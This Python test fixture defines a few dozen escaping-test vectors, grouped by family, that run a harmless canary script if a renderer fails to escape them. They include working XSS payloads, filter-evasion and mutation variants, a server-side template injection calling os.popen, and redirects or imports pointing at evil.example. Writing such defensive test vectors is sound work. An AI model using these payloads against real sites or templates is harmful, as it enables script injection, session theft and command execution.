"""Texts that would run a script, or change what a page is, if one place forgot to escape them.

Each is made for this test, in a family that is publicly known. ``RUN`` stands where a text has code: it sets a
variable of the window, which a browser is asked for afterwards.
"""

from __future__ import annotations

from typing import NamedTuple


class Vector(NamedTuple):
    """A hostile text and the family that it belongs to."""

    family: str
    text: str


#: The variable that any script of a vector sets, and the code that sets it.
CANARY = 'pubsCanary'
RUN = f'{CANARY}=1'
#: The same without a letter that a filter could look for.
_CODES = ','.join(str(ord(character)) for character in RUN)

_TEXTS = {
    'script': [
        f'<script>{RUN}</script>',
        f'</p></li></ul></section><script>{RUN}</script>',
        f'<ScRiPt >{RUN}</sCrIpT >',
        f'<script src="data:text/javascript,{RUN}"></script>',
        f'<scr<script>ipt>{RUN}</scr</script>ipt>',
        f'<script\x0c>{RUN}</script>',
    ],
    'event handler': [
        f'<img src=x onerror={RUN}>',
        f'<img/src=x/onerror={RUN}//',
        f'<body onload={RUN}>',
        f'<details open ontoggle={RUN}><summary>s</summary></details>',
        f'<input autofocus onfocus={RUN}>',
        f'<marquee onstart={RUN}>m</marquee>',
        f'<video><source onerror={RUN}></video>',
        f'<style>@keyframes k{{}}</style><b style="animation-name:k" onanimationstart={RUN}>b</b>',
        f'<img src=x onerror=eval(String.fromCharCode({_CODES}))>',
    ],
    'attribute': [
        f'" onmouseover="{RUN}" x="',
        f"' onmouseover='{RUN}' x='",
        f'` onmouseover=`{RUN}` x=`',
        f'" autofocus onfocus={RUN} tabindex=0 "',
        f'"><img src=x onerror={RUN}>',
        f"'><img src=x onerror={RUN}>",
        f'&quot; onmouseover=&quot;{RUN}',
        f'&#34;&#62;<img src=x onerror={RUN}>',
    ],
    'address': [
        f'javascript:{RUN}',
        f'JaVaScRiPt:{RUN}',
        f' \x01javascript:{RUN}',
        f'java\tscript:{RUN}',
        f'java\nscript:{RUN}',
        f'javascript&colon;{RUN}',
        f'&#x6A;avascript&#0000058;{RUN}',
        f'javascript%3A{RUN}',
        f'javascript://example.org/%0A{RUN}',
        f'\u200bjavascript:{RUN}',
        f'data:text/html,<script>{RUN}</script>',
        'data:text/html;base64,PHNjcmlwdD5wdWJzQ2FuYXJ5PTE8L3NjcmlwdD4=',
        f'vbscript:{RUN}',
        f'view-source:javascript:{RUN}',
        f'blob:javascript:{RUN}',
        '//evil.example/x',
        'https://user:word@evil.example/',
        f'https://example.org/"onmouseover="{RUN}',
        f"https://example.org/'><script>{RUN}</script>",
    ],
    'foreign content': [
        f'<svg onload={RUN}>',
        f'<svg><script>{RUN}</script></svg>',
        f'<svg><animate onbegin={RUN} attributeName=x dur=1s>',
        f'<svg><a xlink:href="javascript:{RUN}"><text y="20">t</text></a></svg>',
        f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}/>#x"/></svg>',
        f'<math><maction actiontype="statusline#" xlink:href="javascript:{RUN}">m</maction></math>',
        f'<math><mi//xlink:href="data:x,<script>{RUN}</script>">',
    ],
    'mutation': [
        f'<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>',
        f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>',
        f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={RUN}>">',
        f'<![CDATA[><img src=x onerror={RUN}>]]>',
    ],
    'raw text': [
        f'</script><script>{RUN}</script>',
        f'<!--<script></script><script>{RUN}</script>-->',
        f'--><img src=x onerror={RUN}>',
        f'--!><img src=x onerror={RUN}>',
        f'<!--><img src=x onerror={RUN}>-->',
        f'</style><img src=x onerror={RUN}>',
        f'</title><img src=x onerror={RUN}>',
        f'</textarea><img src=x onerror={RUN}>',
        f'</pre></details><img src=x onerror={RUN}>',
        f'<plaintext><img src=x onerror={RUN}>',
        f'</noscript></template><img src=x onerror={RUN}>',
        f'\u2028{RUN}\u2029//',
    ],
    'template': [
        '{{ 7*7 }}{% include "layout.html" %}',
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        '{{ constructor.constructor("pubsCanary=1")() }}',
        '${pubsCanary=1}#{pubsCanary=1}<%= 1 %>',
        '%(pubsCanary)s {pubsCanary} {0.__class__}',
        '|html| `x <javascript:pubsCanary=1>`_ :raw:`<b>`',
        f'```{{raw}} html\n<script>{RUN}</script>\n```',
        f'.. raw:: html\n\n   <script>{RUN}</script>',
    ],
    'style': [
        f'<b style="background:url(javascript:{RUN})">b</b>',
        f'<b style="width:expression({RUN})">b</b>',
        '<style>body{display:none}</style>',
        '<link rel=stylesheet href="data:text/css,body{display:none}">',
        'red; } body { display: none',
        f'x" style="position:fixed;inset:0" onclick="{RUN}',
        '<style>@import "//evil.example/x.css";</style>',
    ],
    'document': [
        '<meta http-equiv=refresh content="0;url=//evil.example/">',
        '<base href="//evil.example/">',
        '<form action="//evil.example/"><button>b</button></form>',
        f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
        f'<iframe src="javascript:parent.{RUN}"></iframe>',
        f'<object data="javascript:{RUN}"></object>',
        f'<embed src="data:text/html,<script>{RUN}</script>">',
        '<a id=pubs name=cookie href=x>clobber</a>',
        '<template shadowrootmode=open><slot></slot></template>',
    ],
    'characters': [
        f'\ufeff<script>{RUN}</script>',
        f'\uff1cscript\uff1e{RUN}\uff1c/script\uff1e',
        f'\u02bascript\u02ba \u2039script\u203a{RUN}',
        '\u202eevil\u202c \u2066x\u2069 \u200b\u200d',
        'a\x00b\x08c\x1b[31md\x7fe\x9bf\ufffeg\uffffh',
        f'+ADw-script+AD4-{RUN}+ADw-/script+AD4-',
        f'%3Cscript%3E{RUN}%3C/script%3E',
        f'\\u003cscript\\u003e{RUN}\\u003c/script\\u003e',
        f'\\x3cscript\\x3e{RUN}\\074/script>',
        '\ud83d\ude00'.encode('utf-16', 'surrogatepass').decode('utf-16') + '\U000e0001\U000e007f',
    ],
    'mathematics': [
        f'$\\href{{javascript:{RUN}}}{{x}}$',
        '$\\style{position:fixed;inset:0}{x}$ $\\cssId{pubs}{x}$ $\\class{pubs}{x}$',
        '$\\require{html}\\unicode{x3c}$ $\\def\\a{\\a\\a}\\a$',
        f'$\\text{{<img src=x onerror={RUN}>}}$',
        f'\\(\\href{{javascript:{RUN}}}{{x}}\\) $$\\href{{javascript:{RUN}}}{{x}}$$',
    ],
}

VECTORS = tuple(Vector(family, text) for family, texts in _TEXTS.items() for text in texts)
